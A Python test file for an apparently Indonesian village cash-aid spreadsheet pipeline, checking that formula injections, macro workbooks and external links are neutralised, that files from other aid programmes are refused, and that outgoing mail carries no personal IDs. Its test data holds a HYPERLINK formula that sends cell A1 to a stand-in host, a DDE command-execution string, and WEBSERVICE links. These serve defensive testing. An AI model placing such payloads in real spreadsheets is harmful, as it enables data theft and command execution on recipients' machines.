"""H. Flow and security: cases 71 to 73 and 76."""

from __future__ import annotations

import email
import email.policy
import io
import re
from pathlib import Path

import openpyxl
import xlsxwriter

from tests.messy.kit import CASH, CASH_LIST, LOG_HEADER, Drop, Messy, as_csv, given, workbook, write_rows

EVIL = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'
COMMAND = "-cmd|' /C calc'!A1"
CASH_HEADER = ("NIK", "Nama", "Desa", "Bulan", "Jumlah (Rp)", "Tanggal", "Status")
MIXED_HEADER = (*CASH_HEADER, "Jenis Bantuan")


def cash(drop: Drop, serial: int, *more: str) -> list[str]:
    """A row under CASH_HEADER."""
    person = drop.person(serial)
    return [
        person.nik,
        person.name,
        drop.village.village_name,
        "Januari 2024",
        "300.000",
        "05/02/2024",
        "sudah",
        *more,
    ]


# --- 71: formulas, macros, links


@given(71)
def _(drop: Drop) -> None:
    drop.recipients(drop.people(9))
    evil = [
        drop.row(person, number, name=name, day="31/02/2024")
        for number, (person, name) in enumerate(
            zip(drop.people(4), (EVIL, COMMAND, "@SUM(1)", "+1+1"), strict=True), 1
        )
    ]
    drop.file("rumus.csv", as_csv([LOG_HEADER, *evil]))
    drop.file("makro.xlsm", _with_macro(drop, 5))
    drop.file("makro tersamar.xlsx", _with_macro(drop, 6))

    def linked(path: Path) -> None:
        with xlsxwriter.Workbook(str(path)) as book:
            sheet = book.add_worksheet("S")
            write_rows(sheet, [LOG_HEADER, drop.row(drop.person(7), amount=None, name=None)])
            sheet.write_formula(1, 7, "='http://contoh.invalid/[data.xlsx]Sheet1'!A1", None, 10)
            sheet.write_formula(1, 3, '=WEBSERVICE("http://contoh.invalid/")', None, "WARGA CONTOH")

    drop.file("tautan luar.xlsx", linked)


def _with_macro(drop: Drop, serial: int) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        write_rows(book.add_worksheet("S"), [LOG_HEADER, drop.row(drop.person(serial))])
        book.add_vba_project(io.BytesIO(b"Sub Auto_Open()"), is_stream=True)
        book.filename = buffer
    return buffer.getvalue()


def test_case_71_formulas_in_a_receipt_are_harmless_text(messy: Messy) -> None:
    receipt = messy.receipt(71, "rumus.csv")
    sheet = receipt["Baris Diperbaiki"]
    position = [cell.value for cell in sheet[1]].index("Nama")
    cells = [row[position] for row in sheet.iter_rows(min_row=2)]
    assert {cell.value for cell in cells} == {EVIL, COMMAND, "@SUM(1)", "+1+1"}
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells)


def test_case_71_no_formula_stands_in_any_receipt(messy: Messy) -> None:
    receipts = list(messy.ws.settings.returned.rglob("*.xlsx"))
    assert receipts
    formulas = [
        cell.coordinate
        for path in receipts
        for sheet in openpyxl.load_workbook(path)
        for row in sheet
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


def test_case_71_a_workbook_with_macros_is_asked_for_without_them(messy: Messy) -> None:
    """Reading would be safe, for nothing is ever executed; but the suffix is none of the contract's, and staff learn not to send any."""
    about = messy.submission(71, "makro.xlsm")
    assert (about["status"], about["reason"], about["reason_detail"]) == (
        "rejected",
        "format_unsupported",
        ".xlsm",
    )
    receipt = " ".join(
        str(cell.value) for row in messy.receipt(71, "makro.xlsm").worksheets[0] for cell in row
    )
    assert "tabel Excel (.xlsx)" in receipt


def test_case_71_macros_under_another_suffix_are_never_executed(messy: Messy) -> None:
    assert [row["amount"] for row in messy.rows(71, "makro tersamar.xlsx")] == [10]


def test_case_71_links_to_outside_are_read_as_stored_and_never_followed(messy: Messy) -> None:
    [row] = messy.rows(71, "tautan luar.xlsx")
    assert (row["amount"], row["name_text"], row["reason_codes"]) == (10, "WARGA CONTOH", [])


# --- 72: the wrong programme


@given(72)
def _(drop: Drop) -> None:
    drop.recipients(drop.people(9), feed=CASH_LIST)
    titled = [
        ["DAFTAR PENERIMA BLT DBHCHT TAHAP I TAHUN 2024"],
        [],
        CASH_HEADER,
        cash(drop, 1),
        cash(drop, 2),
    ]
    drop.file("dbhcht.xlsx", workbook({"S": titled}), feed=CASH)
    drop.file(
        "jenis bantuan.xlsx",
        workbook({"S": [MIXED_HEADER, cash(drop, 3, "BLT DBHCHT"), cash(drop, 4, "BLT DBHCHT")]}),
        feed=CASH,
    )
    own = [["DAFTAR PENERIMA BLT DANA DESA"], ["SUMBER DANA : DANA DESA"], CASH_HEADER, cash(drop, 5)]
    drop.file("blt dd.xlsx", workbook({"S": own}), feed=CASH)
    two = {"DD": [CASH_HEADER, cash(drop, 6)], "DBHCHT": [["BLT DBHCHT"], CASH_HEADER, cash(drop, 7)]}
    drop.file("dua lembar.xlsx", workbook(two), feed=CASH)


def test_case_72_another_programme_in_the_title_refuses_the_whole_file(messy: Messy) -> None:
    about = messy.submission(72, "dbhcht.xlsx")
    assert (about["status"], about["reason"], about["reason_detail"], about["rows_read"]) == (
        "rejected",
        "wrong_program",
        "BLT DBHCHT",
        0,
    )
    assert messy.submission(72, "blt dd.xlsx")["rows_accepted"] == 1


def test_case_72_another_programme_in_every_row_refuses_every_row(messy: Messy) -> None:
    about = messy.submission(72, "jenis bantuan.xlsx")
    assert (about["status"], about["rows_rejected"]) == ("rejected", 2)
    assert {tuple(row["reason_codes"]) for row in messy.rejected(72, "jenis bantuan.xlsx")} == {
        ("wrong_program",)
    }


def test_case_72_a_sheet_of_another_programme_is_left_out(messy: Messy) -> None:
    about = messy.submission(72, "dua lembar.xlsx")
    assert (about["status"], about["rows_read"], about["rows_accepted"]) == ("accepted", 1, 1)
    assert messy.remarks(72, "dua lembar.xlsx")["sheet_other_program"] == "BLT DBHCHT"


# --- 73: two programmes in one table


@given(73)
def _(drop: Drop) -> None:
    drop.recipients(drop.people(6), feed=CASH_LIST)
    kinds = ("BLT DD", "Beras 10 kg", "Bantuan Pangan", "blt dana desa", "")
    rows = [cash(drop, serial, kind) for serial, kind in enumerate(kinds, 1)]
    drop.file("campur.xlsx", workbook({"S": [MIXED_HEADER, *rows]}), feed=CASH)
    other = [*CASH_HEADER, "Bantuan lain yang diterima"]
    drop.file("bantuan lain.xlsx", workbook({"S": [other, cash(drop, 6, "Beras")]}), feed=CASH)


def test_case_73_rows_of_another_programme_are_refused_and_the_others_count(messy: Messy) -> None:
    """The folder decides what a row is (the contract): no row becomes an event of another programme, its sender moves it."""
    assert [row["reason_codes"] for row in messy.rows(73, "campur.xlsx")] == [
        [],
        ["wrong_program"],
        ["wrong_program"],
        [],
        [],
    ]
    about = messy.submission(73, "campur.xlsx")
    assert (about["status"], about["rows_accepted"], about["rows_rejected"]) == ("partial", 3, 2)


def test_case_73_another_aid_of_the_family_says_nothing_of_the_row(messy: Messy) -> None:
    assert messy.submission(73, "bantuan lain.xlsx")["rows_accepted"] == 1


# --- 76: nothing personal leaves by mail


@given(76)
def _(drop: Drop) -> None:
    drop.recipients(drop.people(5))
    bad = [drop.row(person, number, day="31/02/2024") for number, person in enumerate(drop.people(4), 1)]
    drop.file("ditolak.xlsx", workbook({"S": [LOG_HEADER, *bad]}))


def test_case_76_no_mail_holds_a_person(messy: Messy) -> None:
    mails = list(messy.ws.settings.outbox.glob("*.eml"))
    assert mails
    said = {path.name: _everything(path) for path in mails}
    # A mail names thirty refused files at most; which of this run's are among them hangs on the day's hashes.
    refused = messy.audit("select file_name from audit.submissions where status in ('rejected', 'partial')")
    assert any(row["file_name"] in text for row in refused for text in said.values())
    for drop in messy.drops.values():
        for person in drop.people(99):
            told = [
                name
                for name, text in said.items()
                if person.name in text or person.nik in text or person.kk in text
            ]
            assert told == []
    digits = {name: re.findall(r"(?<![0-9a-f])\d{16}(?![0-9a-f])", text) for name, text in said.items()}
    assert {name: found for name, found in digits.items() if found} == {}


def _everything(path: Path) -> str:
    """All that a mail says: its headers, its texts, the cells of workbooks that hang on it."""
    mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
    said = [f"{name}: {value}" for name, value in mail.items()]
    for part in mail.walk():
        if part.is_multipart():
            continue
        content = part.get_content()
        if isinstance(content, str):
            said.append(content)
        elif (part.get_filename() or "").endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(content))
            said += [str(cell.value) for sheet in book for row in sheet for cell in row]
    return "\n".join(said)
